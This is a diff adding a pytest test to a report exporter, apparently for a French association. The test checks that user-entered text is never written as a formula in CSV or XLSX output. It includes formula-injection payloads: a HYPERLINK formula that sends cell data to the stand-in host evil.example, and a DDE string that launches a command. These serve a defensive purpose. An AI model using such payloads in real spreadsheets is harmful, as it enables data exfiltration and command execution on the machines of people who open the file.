@@ -6,6 +6,7 @@ import csv
 import datetime as dt
 import io
 import random
+import zipfile
 from pathlib import Path
 
 import pytest
@@ -116,3 +117,26 @@ def test_report_command_line_writes_the_three_files(
     names = sorted(p.name for p in out.iterdir())
     assert names == ["bilan-pdn-2026-Q4.csv", "bilan-pdn-2026-Q4.png", "bilan-pdn-2026-Q4.xlsx"]
     assert (out / "bilan-pdn-2026-Q4.png").read_bytes()[:4] == b"\x89PNG"
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1;"clic")'
+
+
+def test_text_people_typed_never_becomes_a_formula_in_an_export() -> None:
+    declaration = _declarations(1)[0]
+    declaration.topics = [HOSTILE]
+    declaration.networks = ["+cmd|' /C calc'!A0"]
+    declaration.remark = "-2+3"
+    rows = [declaration.model_dump()]
+    report = build_report(Period(2026, 4), rows, TODAY)
+
+    cells = [c for line in csv.reader(io.StringIO(to_csv(report).decode("utf-8-sig")),
+                                      delimiter=";") for c in line]  # fmt: skip
+    assert not [c for c in cells if c.startswith(("=", "+", "-"))]
+    assert cells[0] == "Promeneur" and "@p0:test" in cells  # a Matrix ID is left as it is
+
+    with zipfile.ZipFile(io.BytesIO(to_xlsx(report))) as book:
+        sheets = [book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/")]
+        shared = book.read("xl/sharedStrings.xml").decode()
+    assert sheets and not [s for s in sheets if "<f>" in s]  # no cell holds a formula
+    assert "HYPERLINK" in shared  # the text is there, as text
